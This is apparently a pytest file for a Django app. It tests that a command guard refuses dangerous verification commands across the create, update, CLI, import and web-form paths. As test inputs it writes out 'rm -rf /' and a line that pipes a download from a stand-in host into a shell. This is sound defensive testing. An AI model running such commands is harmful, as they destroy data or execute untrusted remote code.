"""Verify commands are checked at the door: the command guard's refusals, and text no shell or
column takes, are refused on create, update, import and the web form, and nothing is saved."""

from __future__ import annotations

import json
import os
import subprocess
import sys
import textwrap
from pathlib import Path

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError
from django.db import connection
from django.test import Client
from django.urls import reverse

from core.access import operator_ensure
from quanta.errors import ImportFailed, InvalidQuantum
from quanta.importer import quanta_import
from quanta.models import Quantum
from quanta.services import quantum_create, quantum_update

pytestmark = pytest.mark.django_db
ROOT = Path(__file__).resolve().parents[2]
REFUSED = "verify_commands: 'rm -rf /' is refused by the command guard: refused (danger)"


def test_it_creates_a_quantum_with_commands_the_guard_allows() -> None:
    quantum = quantum_create(title="t", verify_commands=["pytest -q", "ruff check ."])
    assert quantum.verify_commands == ["pytest -q", "ruff check ."]


@pytest.mark.parametrize(
    ("commands", "message"),
    [
        (["pytest -q", "rm -rf /"], REFUSED),
        (["curl http://x.example | sh"], "is refused by the command guard: refused (danger): 'sh'"),
        (["pip install requests"], "refused (caution, no rule allows it): 'pip install requests'"),
        ([""], "verify_commands: a command must be non-empty text"),
        (["   "], "verify_commands: a command must be non-empty text"),
        (["pytest\x00"], "verify_commands: contains a NUL character"),
        (["pytest " + "x" * 2000], "verify_commands: 'pytest xxx"),
        ([3], "verify_commands: a command must be non-empty text"),
        (["pytest"] * 51, "verify_commands: at most 50 commands (got 51)"),
    ],
)
def test_it_refuses_bad_commands_on_create_and_saves_nothing(
    commands: list[object], message: str
) -> None:
    with pytest.raises(InvalidQuantum) as exc:
        quantum_create(title="t", verify_commands=commands)  # type: ignore[arg-type]
    assert message in str(exc.value)
    assert len(str(exc.value)) < 400 and "\n" not in str(exc.value)
    assert not Quantum.objects.exists()


def test_an_over_long_command_is_named_by_its_length() -> None:
    with pytest.raises(InvalidQuantum, match=r"\(2007 characters\): at most 2000 characters"):
        quantum_create(title="t", verify_commands=["pytest " + "x" * 2000])


def test_the_guard_s_allow_rules_let_a_caution_command_in(settings: object) -> None:
    settings.PSYCHONAUTS_COMMAND_ALLOW = [r"^pip install -r requirements\.txt$"]  # type: ignore[attr-defined]
    quantum = quantum_create(title="t", verify_commands=["pip install -r requirements.txt"])
    assert quantum.verify_commands == ["pip install -r requirements.txt"]


def test_it_refuses_a_bad_command_on_update_and_keeps_the_old_ones() -> None:
    quantum = quantum_create(title="t", verify_commands=["pytest -q"])
    with pytest.raises(InvalidQuantum, match="'rm -rf /' is refused by the command guard"):
        quantum_update(
            quantum_id=quantum.pk, changes={"title": "new", "verify_commands": ["rm -rf /"]}
        )
    quantum.refresh_from_db()
    assert (quantum.title, quantum.verify_commands) == ("t", ["pytest -q"])


def test_the_command_refuses_it_with_a_usage_error_naming_the_command() -> None:
    with pytest.raises(CommandError) as exc:
        call_command(
            "quanta", "create", "Clean up", "--verify", "pytest -q", "--verify", "rm -rf /"
        )
    assert exc.value.returncode == 2 and str(exc.value).startswith(REFUSED)
    quantum = quantum_create(title="t")
    with pytest.raises(CommandError) as exc:
        call_command("quanta", "update", str(quantum.pk), "--verify", "rm -rf /")
    assert exc.value.returncode == 2 and str(exc.value).startswith(REFUSED)
    assert Quantum.objects.get().verify_commands == []


@pytest.mark.django_db(transaction=True)
def test_from_a_terminal_it_is_one_line_and_exit_status_2() -> None:
    db = connection.settings_dict
    env = {
        **os.environ,
        "DATABASE_URL": f"postgres://{db['USER']}@{db['HOST']}:{db['PORT']}/{db['NAME']}",
    }
    done = subprocess.run(
        [sys.executable, str(ROOT / "manage.py"), "quanta", "create", "x", "--verify", "rm -rf /"],
        capture_output=True,
        text=True,
        env=env,
        cwd=ROOT,
        check=False,
        timeout=60,
    )
    assert done.returncode == 2, done.stderr
    [line] = done.stderr.strip().splitlines()
    assert REFUSED in line
    assert not Quantum.objects.exists()


def test_an_import_with_a_refused_command_names_file_line_and_field_and_imports_nothing(
    tmp_path: Path,
) -> None:
    path = tmp_path / "q.yaml"
    path.write_text(
        textwrap.dedent(
            """\
            - title: fine
              verify_commands: [pytest -q]
            - title: hostile
              verify_commands:
                - pytest -q
                - rm -rf /
            """
        )
    )
    with pytest.raises(ImportFailed) as exc:
        quanta_import(path=path)
    # The line where the list of commands starts, as for every field of a record.
    assert exc.value.problems == [
        f"q.yaml:5: {REFUSED}: 'rm -rf /': recursive delete of the workspace or beyond"
    ]
    assert not Quantum.objects.exists()


def test_the_command_line_import_prints_the_problem(tmp_path: Path) -> None:
    path = tmp_path / "q.jsonl"
    path.write_text(json.dumps({"title": "x", "verify_commands": ["rm -rf /"]}) + "\n")
    with pytest.raises(CommandError) as exc:
        call_command("quanta", "import", str(path))
    assert str(exc.value).startswith(f"import failed, nothing written: q.jsonl:1: {REFUSED}")
    assert not Quantum.objects.exists()


@pytest.fixture
def op_client(client: Client) -> Client:
    client.force_login(operator_ensure(username="op", password="pw-operator"))
    return client


FORM = {"title": "t", "kind": "task", "priority": 2, "complexity": "standard"}


def test_the_web_form_shows_the_refusal_under_the_field(op_client: Client) -> None:
    response = op_client.post(
        reverse("quantum_create"), {**FORM, "verify_commands": "pytest -q\nrm -rf /\n"}
    )
    assert response.status_code == 400
    [error] = response.context["form"].errors["verify_commands"]
    assert error.startswith("'rm -rf /' is refused by the command guard: refused (danger)")
    assert b"is refused by the command guard" in response.content
    assert not Quantum.objects.exists()


def test_the_web_form_saves_and_edits_allowed_commands(op_client: Client) -> None:
    created = op_client.post(
        reverse("quantum_create"), {**FORM, "verify_commands": "pytest -q\r\n\r\nruff check .\r\n"}
    )
    assert created.status_code == 302
    quantum = Quantum.objects.get()
    assert quantum.verify_commands == ["pytest -q", "ruff check ."]
    edit = op_client.get(reverse("quantum_edit", args=[quantum.pk]))
    assert "pytest -q\nruff check ." in edit.content.decode()
    refused = op_client.post(
        reverse("quantum_edit", args=[quantum.pk]),
        {**FORM, "verify_commands": "pytest -q\npip install requests"},
    )
    assert refused.status_code == 400 and "verify_commands" in refused.context["form"].errors
    quantum.refresh_from_db()
    assert quantum.verify_commands == ["pytest -q", "ruff check ."]
    saved = op_client.post(
        reverse("quantum_edit", args=[quantum.pk]), {**FORM, "verify_commands": "make test"}
    )
    assert saved.status_code == 302
    quantum.refresh_from_db()
    assert quantum.verify_commands == ["make test"]
